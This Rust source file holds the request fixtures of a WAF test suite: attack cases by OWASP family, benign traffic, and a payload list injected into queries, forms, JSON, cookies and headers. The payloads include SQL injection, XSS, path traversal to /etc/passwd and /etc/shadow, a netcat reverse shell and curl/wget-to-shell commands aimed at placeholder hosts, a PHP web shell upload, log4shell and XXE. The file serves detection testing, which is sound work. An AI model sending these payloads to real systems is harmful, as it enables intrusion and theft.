//! The requests the WAF tests send: one or more attacks of each OWASP family CRS covers,
//! and a benign corpus of ordinary traffic (prose full of "and", "or", quotes and dashes;
//! JSON APIs; form posts; a multipart upload; long query strings).
use bytes::Bytes;
use http_body_util::Full;

pub struct Case {
    pub name: &'static str,
    pub method: &'static str,
    pub target: &'static str,
    /// (content type, body)
    pub body: Option<(&'static str, &'static str)>,
    pub headers: &'static [(&'static str, &'static str)],
}

const fn get(name: &'static str, target: &'static str) -> Case {
    Case { name, method: "GET", target, body: None, headers: &[] }
}

const fn post(name: &'static str, target: &'static str, content_type: &'static str, body: &'static str) -> Case {
    Case { name, method: "POST", target, body: Some((content_type, body)), headers: &[] }
}

const FORM: &str = "application/x-www-form-urlencoded";
const JSON: &str = "application/json";
const MULTIPART: &str = "multipart/form-data; boundary=XyZ";

pub const ATTACKS: &[Case] = &[
    get("sqli: tautology", "/search?q=1%27%20OR%20%271%27%3D%271"),
    get("sqli: union select", "/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"),
    post("sqli: in a form", "/login", FORM, "user=admin%27--&pass=x"),
    post("sqli: in JSON", "/api/items", JSON, r#"{"id":"1' OR '1'='1"}"#),
    get("xss: script tag", "/comment?text=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
    get("xss: event handler", "/profile?name=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    post("xss: in JSON", "/api/comments", JSON, r#"{"body":"<svg onload=alert(1)>"}"#),
    // Fullwidth brackets (U+FF1C, U+FF1E): ASCII only after t:utf8toUnicode and the
    // best-fit map of t:urlDecodeUni, as ModSecurity reads them.
    get("xss: fullwidth brackets", "/comment?text=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E"),
    // Octal JavaScript escapes (`\74script\76`) and entity references without their `;`
    // (`&#60script`): seen only through t:jsDecode and t:htmlEntityDecode as ModSecurity's.
    get("xss: octal javascript escapes", "/comment?text=%5C74script%5C76alert(1)%5C74/script%5C76"),
    get("xss: references without semicolons", "/comment?text=%26%2360script%26%2362alert(1)%26%2360/script%26%2362"),
    get("lfi: traversal", "/download?file=../../../../etc/passwd"),
    get("lfi: encoded traversal", "/download?file=..%2f..%2f..%2fetc%2fshadow"),
    get("rfi: remote include", "/page?include=http://198.51.100.7/shell.txt?"),
    get("rce: command chaining", "/ping?host=127.0.0.1%3Bcat%20/etc/passwd"),
    get("rce: subshell", "/ping?host=%24(curl%20http://evil.example/x%7Csh)"),
    get("php: code injection", "/x?a=%3C%3Fphp%20system(%24_GET%5B%27c%27%5D)%3B%20%3F%3E"),
    get("php: wrapper", "/x?page=php://filter/convert.base64-encode/resource=index.php"),
    get(
        "session fixation: a cookie set for another domain",
        "/x?a=document.cookie%3D%22sid%3D1%3B%20domain%3D.example.com%22",
    ),
    get("java: class loading", "/x?c=java.lang.Runtime.getRuntime().exec(%22id%22)"),
    get("java: log4shell", "/x?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"),
    Case {
        name: "protocol: header injection in an argument",
        method: "GET",
        target: "/redirect?to=%0d%0aSet-Cookie%3A%20session%3Devil",
        body: None,
        headers: &[],
    },
    Case {
        name: "scanner user agent",
        method: "GET",
        target: "/",
        body: None,
        headers: &[("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")],
    },
    Case { name: "method enforcement", method: "PROPFIND", target: "/", body: None, headers: &[] },
    post(
        "php: an upload named .php",
        "/upload",
        MULTIPART,
        "--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"shell.php\"\r\nContent-Type: image/png\r\n\r\n<?php system($_GET['c']); ?>\r\n--XyZ--\r\n",
    ),
    post(
        "sqli: in XML",
        "/soap",
        "text/xml",
        "<?xml version=\"1.0\"?><order><id>1' UNION SELECT password FROM users--</id></order>",
    ),
    // libmodsecurity before 3.0.12 decoded the target before splitting off the query: the
    // path ended at the decoded `?` and the script was in no variable its rules read.
    get(ENCODED_QUERY_MARK, "/page%3F%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    // Past the final boundary: no part of the body to a parser, data to a lax one.
    post(
        "multipart: an attack after the final boundary",
        "/upload",
        MULTIPART,
        "--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nhello\r\n--XyZ--\r\nb=1' UNION SELECT password FROM users--",
    ),
    // XXE: an entity the body uses, and one only the DTD uses (out of band: wapiti's).
    post("xxe: file entity", "/api", "application/xml", r#"<?xml version="1.0"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#),
    // A charset CRS does not allow in a part's Content-Type (922110, which selects the TX
    // keys 922150 writes through an upper-case regex: selections ignore case).
    post(
        "multipart: a part in UTF-7",
        "/upload",
        MULTIPART,
        "--XyZ\r\nContent-Disposition: form-data; name=\"q\"\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-\r\n--XyZ--\r\n",
    ),
    // Entities are read as libxml2 reads them (xml_dtd.rs): what an internal one carries is
    // inspected, and an expansion past the bounds is refused.
    post("sqli: in an XML internal entity", "/api", "application/xml", r#"<?xml version="1.0"?><!DOCTYPE n [<!ENTITY q "1' union select password from users--">]><n><q>&q;</q></n>"#),
    post("xml: billion laughs", "/api", "application/xml", r#"<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lollollollollollollollollollol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">]><l>&f;</l>"#),
    post("xxe: out of band", "/api", "application/xml", "<?xml version=\"1.0\"?>\n<!DOCTYPE foo [\n<!ENTITY % remote SYSTEM \"http://203.0.113.9/x.dtd\">\n%remote; ]>\n<xml><test>hello</test></xml>"),
];

/// An upload whose boundary is quoted, as RFC 2046 allows and .NET's HttpClient sends.
pub const QUOTED_BOUNDARY: &str = "multipart: a quoted boundary";

/// A form part with a charset in its Content-Type, as Java's and .NET's multipart
/// clients write their text parts.
pub const PART_CHARSET: &str = "multipart: a text part with its charset";

/// The name of the attack that hides behind an encoded `?` (CVE-2024-1019).
pub const ENCODED_QUERY_MARK: &str = "xss: behind an encoded ? in the path";

pub const BENIGN: &[Case] = &[
    get("prose with and/or/quotes/dashes", "/search?q=Tom%20and%20Jerry%20or%20the%20cat%27s%20--%20best%20friend"),
    get("prose: a question", "/search?q=Is%20it%20%22now%20or%20never%22%20-%20or%20can%20we%20wait%3F"),
    get("prose: names with apostrophes", "/people?name=O%27Brien%20and%20D%27Angelo"),
    get("ten arguments", "/p?a=1&b=hello&c=world&d=foo&e=bar&f=42&g=true&h=x-y&i=z_z&j=done"),
    get(
        "a long query string",
        "/report?from=2026-01-01&to=2026-12-31&fields=name,email,created_at,updated_at,status,plan,seats,region&sort=-created_at&page=3&per_page=100&include=owner,billing&locale=en-GB&tz=Europe%2FLondon&utm_source=newsletter&utm_medium=email&utm_campaign=winter",
    ),
    get("a plain page", "/docs/getting-started/index.html"),
    post("form: a comment", "/comments", FORM, "author=Ann&comment=I+don%27t+think+so%2C+and+you%3F+Either+way+--+thanks%21&rating=4"),
    post("form: a login", "/login", FORM, "user=alice%40example.com&password=correct-horse-battery-staple&remember=on"),
    post("JSON: an order", "/api/orders", JSON, r#"{"customer":"O'Brien","items":[{"sku":"A-1","qty":2},{"sku":"B-7","qty":1}],"note":"select the best one, or not"}"#),
    post("JSON: a search", "/api/search", JSON, r#"{"query":"cats and dogs","filters":{"min_price":10,"max_price":99.5},"sort":"relevance"}"#),
    post(
        "multipart: an upload",
        "/upload",
        MULTIPART,
        "--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHoliday photos - summer and autumn\r\n--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"beach.txt\"\r\nContent-Type: text/plain\r\n\r\nSand, sea and sun; nothing else.\r\n--XyZ--\r\n",
    ),
    post(
        QUOTED_BOUNDARY,
        "/upload",
        "multipart/form-data; boundary=\"c0ffee\"",
        "--c0ffee\r\nContent-Disposition: form-data; name=\"caption\"\r\n\r\nHoliday photos\r\n--c0ffee--\r\n",
    ),
    post(
        PART_CHARSET,
        "/upload",
        MULTIPART,
        "--XyZ\r\nContent-Disposition: form-data; name=\"comment\"\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\nSee you on Monday.\r\n--XyZ--\r\n",
    ),
    // Go's mime/multipart escapes a quote in a name with a backslash, as ModSecurity reads it.
    post(
        "multipart: a field name with an escaped quote",
        "/upload",
        MULTIPART,
        "--XyZ\r\nContent-Disposition: form-data; name=\"say \\\"hi\\\"\"\r\n\r\nHello there\r\n--XyZ--\r\n",
    ),
    post(
        "benign: XHTML with its DTD's entities",
        "/pages",
        "application/xml",
        "<?xml version=\"1.0\"?>\n<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">\n<html xmlns=\"http://www.w3.org/1999/xhtml\"><body><p>Tom&nbsp;and&nbsp;Jerry &copy; 2026</p></body></html>",
    ),
    post(
        "benign: XML with an internal entity",
        "/notes",
        "application/xml",
        "<?xml version=\"1.0\"?>\n<!DOCTYPE note [<!ENTITY company \"Example Ltd\">]>\n<note><to>Tove</to><from>&company;</from></note>",
    ),
    post("benign: XML", "/soap", "application/xml", "<?xml version=\"1.0\"?><order><id>42</id><note>Tom &amp; Jerry</note></order>"),
    // Namespaces and a self-closing element: every SOAP envelope was refused (941130 on
    // `xmlns`, or an empty element left "open").
    post(
        "benign: SOAP with namespaces",
        "/soap",
        "text/xml; charset=utf-8",
        r#"<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetPrice xmlns="http://tempuri.org/"><Item>Apples</Item><Discount/></GetPrice></soap:Body></soap:Envelope>"#,
    ),
    Case { name: "JSON API: a GET", method: "GET", target: "/api/items/7?fields=name,price", body: None, headers: &[("accept", "application/json")] },
];

impl Case {
    /// The request, to `base` (`http://127.0.0.1:PORT`), for the virtual host `host`.
    pub fn request(&self, base: &str, host: &str) -> http::Request<Full<Bytes>> {
        let mut b = http::Request::builder()
            .method(self.method)
            .uri(format!("{base}{}", self.target))
            .header("host", host)
            .header("accept", "text/html,application/json;q=0.9,*/*;q=0.8")
            .header("accept-language", "en-GB,en;q=0.8");
        if !self.headers.iter().any(|(n, _)| *n == "user-agent") {
            b = b.header("user-agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120 Safari/537.36");
        }
        for (name, value) in self.headers {
            b = b.header(*name, *value);
        }
        match self.body {
            Some((content_type, body)) => {
                b.header("content-type", content_type).body(Full::new(Bytes::from_static(body.as_bytes()))).unwrap()
            }
            None => b.body(Full::default()).unwrap(),
        }
    }
}

/// More requests for the differential check against nginx + libmodsecurity: classic
/// payloads of each family in other shapes, and ordinary requests that look a little like
/// them. No expected verdict: the two engines' decisions are compared.
pub const MORE: &[Case] = &[
    get("sqli: sleep", "/item?id=1%20AND%20SLEEP(5)"),
    get("sqli: comment", "/item?id=1/**/OR/**/1=1"),
    get("sqli: stacked", "/item?id=1;DROP%20TABLE%20users"),
    get("sqli: hex", "/item?id=0x61646d696e"),
    get("sqli: information_schema", "/item?id=1%20union%20select%20table_name%20from%20information_schema.tables"),
    get("sqli: benchmark", "/item?id=benchmark(10000000,md5(1))"),
    get("sqli: order by", "/item?sort=1%20ORDER%20BY%2010--"),
    post("sqli: form or", "/login", FORM, "user=%27%20or%201%3D1%23&pass=x"),
    // sqlmap's `' IN BOOLEAN MODE)` boundary: libinjection's fingerprint only once the
    // words merge into one keyword (vendor/README.md).
    get("sqli: behind IN BOOLEAN MODE", "/item?id=1%27+IN+BOOLEAN+MODE%29+AND+3903%3D3961--+-%23"),
    get("xss: javascript uri", "/go?url=javascript:alert(1)"),
    get("xss: iframe", "/c?t=%3Ciframe%20src%3D%22http://evil.example%22%3E"),
    get("xss: svg", "/c?t=%3Csvg/onload%3Dalert(1)%3E"),
    get("xss: body onload", "/c?t=%3Cbody%20onload%3Dalert(1)%3E"),
    get("xss: encoded", "/c?t=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B/script%26gt%3B"),
    get("xss: style expression", "/c?t=%3Cdiv%20style%3D%22width:expression(alert(1))%22%3E"),
    post("xss: form", "/comments", FORM, "comment=%3Cscript%3Efetch(%27//evil.example%27)%3C/script%3E"),
    get("lfi: windows", "/f?file=..%5C..%5Cwindows%5Cwin.ini"),
    get("lfi: proc", "/f?file=/proc/self/environ"),
    get("lfi: null byte", "/f?file=../../etc/passwd%00.png"),
    // Only CRS 930110 finds these: the first in the value as it came (`t:cmdLine` drops
    // backslashes), so only with multiMatch; the others in overlong UTF-8 as
    // t:utf8toUnicode reads it (a lead byte before no continuation is dropped).
    post("lfi: backslash traversal in a form", "/f", FORM, "file=..%5Csettings.txt"),
    get("lfi: overlong slash", "/f?file=..%c0%afsettings.txt"),
    get("lfi: broken overlong slash", "/f?file=..%c0%2fsettings.txt"),
    get("rfi: ftp", "/p?inc=ftp://198.51.100.9/x.txt?"),
    get("rfi: ip with question", "/p?inc=http://203.0.113.5/?"),
    get("rce: backticks", "/run?c=%60id%60"),
    get("rce: pipe", "/run?c=a%7Cwhoami"),
    get("rce: wget", "/run?c=%3Bwget%20http://evil.example/x%20-O%20/tmp/x"),
    get("rce: powershell", "/run?c=powershell%20-enc%20SQBFAFgA"),
    get("rce: shellshock", "/cgi-bin/x"),
    get("php: eval", "/x?a=eval(base64_decode(%22aWQ=%22))"),
    get("php: object injection", "/x?a=O:8:%22stdClass%22:1:%7Bs:1:%22a%22;s:1:%22b%22;%7D"),
    get("php: config", "/x?f=php.ini"),
    get("java: spring el", "/x?a=T(java.lang.Runtime).getRuntime()"),
    get("java: serialized", "/x?a=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"),
    post("java: a raw body", "/rpc", "application/x-java-serialized-object", "java.lang.ProcessBuilder(cmd).start()"),
    post("policy: a text/plain body (CRS allows the type nowhere)", "/notes", "text/plain", "Buy milk, eggs and bread -- or not; ask Ann's opinion."),
    get("nodejs: injection", "/x?a=require(%27child_process%27).exec(%27id%27)"),
    // Base64 without its padding, as node-serialize cookies carry it: libmodsecurity's
    // t:base64Decode decodes every whole group (CRS 934100, 934160).
    Case {
        name: "nodejs: unpadded base64 in a cookie",
        method: "GET",
        target: "/",
        body: None,
        headers: &[("cookie", "profile=XyQkTkRfRlVOQyQkX2Z1bmN0aW9uKCl7cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyl9KCk")],
    },
    get("nodejs: unpadded base64 loop", "/x?data=d2hpbGUoMSl7fQ"),
    get("protocol: crlf in path arg", "/x?a=foo%0d%0aLocation:%20http://evil.example"),
    Case { name: "scanner: nikto", method: "GET", target: "/", body: None, headers: &[("user-agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)")] },
    Case { name: "scanner: nmap", method: "GET", target: "/", body: None, headers: &[("user-agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")] },
    Case { name: "shellshock header", method: "GET", target: "/", body: None, headers: &[("referer", "() { :; }; echo; /bin/id")] },
    Case { name: "method: TRACK", method: "TRACK", target: "/", body: None, headers: &[] },
    get("benign: search for select", "/search?q=how%20to%20select%20a%20good%20laptop"),
    get("benign: union station", "/search?q=Union%20Station%20opening%20times"),
    get("benign: drop shipping", "/search?q=drop%20shipping%20and%20delivery"),
    get("benign: script writing", "/search?q=script%20writing%20course"),
    get("benign: a path", "/docs/api/v2/users/42/settings"),
    get("benign: email", "/subscribe?email=jane.doe%2Btag%40example.co.uk"),
    get("benign: price range", "/shop?min=10&max=99&sort=price-asc"),
    get("benign: date range", "/events?from=2026-12-01&to=2026-12-31"),
    get("benign: base64 token", "/verify?token=ZXlKaGJHY2lPaUpJVXpJMU5pSjk"),
    // Not base64: t:base64Decode leaves nothing for the URL decoding after it, so the
    // doubled escapes are not read as `eval(`.
    Case { name: "benign: doubly escaped text in a cookie", method: "GET", target: "/", body: None, headers: &[("cookie", "note=%2565val%2528")] },
    get("benign: url param", "/go?next=%2Faccount%2Fsettings"),
    get("benign: math", "/calc?expr=2%2B2%3D4"),
    get("benign: code words", "/search?q=select%20from%20the%20menu%20or%20order%20online"),
    get("benign: quotes", "/search?q=%22the%20best%22%20reviews"),
    get("benign: ampersand", "/search?q=Tom%20%26%20Jerry"),
    get("benign: unicode", "/search?q=caf%C3%A9%20cr%C3%A8me%20br%C3%BBl%C3%A9e"),
    post("benign: long text", "/posts", FORM, "title=Winter+notes&body=It+was+cold+and+dark%2C+or+so+it+seemed.+We+walked+--+slowly+--+to+the+station%3B+nobody+said+a+word.+Then+she+laughed%3A+%22what+now%3F%22"),
    post("benign: json nested", "/api/profile", JSON, r#"{"user":{"name":"Ann","tags":["admin-ish","early adopter"],"bio":"I like SQL and select wines."}}"#),
    post("benign: json numbers", "/api/metrics", JSON, r#"{"cpu":0.93,"mem":1024,"ok":true,"labels":{"region":"eu-west"}}"#),
    post("benign: form search", "/search", FORM, "q=union+of+two+sets&lang=en"),
    Case { name: "benign: a browser's headers", method: "GET", target: "/index.html", body: None, headers: &[("accept-encoding", "gzip, deflate, br"), ("cookie", "session=abc123; theme=dark"), ("referer", "https://www.example.com/")] },
    Case { name: "benign: OPTIONS", method: "OPTIONS", target: "/api/items", body: None, headers: &[] },
    Case { name: "benign: HEAD", method: "HEAD", target: "/index.html", body: None, headers: &[] },
];

/// Strings placed in each part of a request by [`placed`]: attacks of every family and
/// ordinary text that shares their words and punctuation.
pub const PAYLOADS: &[&str] = &[
    "1' OR '1'='1",
    "1 UNION ALL SELECT NULL,NULL,concat(user(),0x3a,version())--",
    "admin'/*",
    "1; WAITFOR DELAY '0:0:5'--",
    "' AND extractvalue(1,concat(0x7e,(SELECT database())))--",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "\"><img src=x onerror=prompt(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "../../../../../../etc/passwd",
    "....//....//etc/hosts",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "http://203.0.113.9/evil.txt?",
    "; cat /etc/shadow",
    "| nc -e /bin/sh 203.0.113.9 4444",
    "$(wget -qO- http://evil.example/s.sh)",
    "<?php passthru($_GET['c']); ?>",
    "phpinfo()",
    "${jndi:ldap://evil.example/a}",
    "java.lang.Runtime.getRuntime().exec('id')",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "() { :; }; /bin/bash -c id",
    "Tom and Jerry or the cat's -- best friend",
    "Let's meet at 5 - or 6, if that's OK?",
    "SELECT your seat and ORDER the meal online",
    "Please drop by the union hall on Friday",
    "The script of the play is on the table",
    "R&D costs: 10% (approx.) + tax",
    "email me: jane.o'neil@example.com",
    "C++ and C# are both languages",
    "It's 5 o'clock -- time for tea & biscuits",
    "path/to/my document (final).pdf",
    "I <3 this product! 5/5 stars :)",
    "Where is 1st Street? Is it near the station?",
];

/// A request made from a payload and a place in the request.
pub struct Placed {
    pub name: String,
    target: String,
    body: Option<(&'static str, String)>,
    header: Option<(&'static str, String)>,
}

fn url_encode(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => (b as char).to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

/// Every payload in each place: a query argument, a form field, a JSON string, a cookie,
/// a header.
pub fn placed() -> Vec<Placed> {
    let mut out = Vec::new();
    for (i, p) in PAYLOADS.iter().enumerate() {
        let enc = url_encode(p);
        let json = serde_json::json!({ "v": p }).to_string();
        let name = |place: &str| format!("payload {i} in {place}: {p}");
        out.push(Placed { name: name("the query"), target: format!("/p?v={enc}"), body: None, header: None });
        out.push(Placed { name: name("the path"), target: format!("/p/{enc}"), body: None, header: None });
        out.push(Placed {
            name: name("a form"),
            target: "/p".into(),
            body: Some((FORM, format!("v={enc}"))),
            header: None,
        });
        out.push(Placed { name: name("JSON"), target: "/p".into(), body: Some((JSON, json)), header: None });
        out.push(Placed {
            name: name("a cookie"),
            target: "/p".into(),
            body: None,
            header: Some(("cookie", format!("v={enc}"))),
        });
        out.push(Placed {
            name: name("a header"),
            target: "/p".into(),
            body: None,
            header: Some(("x-note", p.to_string())),
        });
    }
    out
}

impl Placed {
    pub fn request(&self, base: &str, host: &str) -> http::Request<Full<Bytes>> {
        let mut b = http::Request::builder()
            .method(if self.body.is_some() { "POST" } else { "GET" })
            .uri(format!("{base}{}", self.target))
            .header("host", host)
            .header("accept", "text/html,application/json;q=0.9,*/*;q=0.8")
            .header("accept-language", "en-GB,en;q=0.8")
            .header("user-agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120 Safari/537.36");
        if let Some((name, value)) = &self.header {
            b = b.header(*name, value.as_str());
        }
        match &self.body {
            Some((content_type, body)) => {
                b.header("content-type", *content_type).body(Full::new(Bytes::from(body.clone()))).unwrap()
            }
            None => b.body(Full::default()).unwrap(),
        }
    }
}
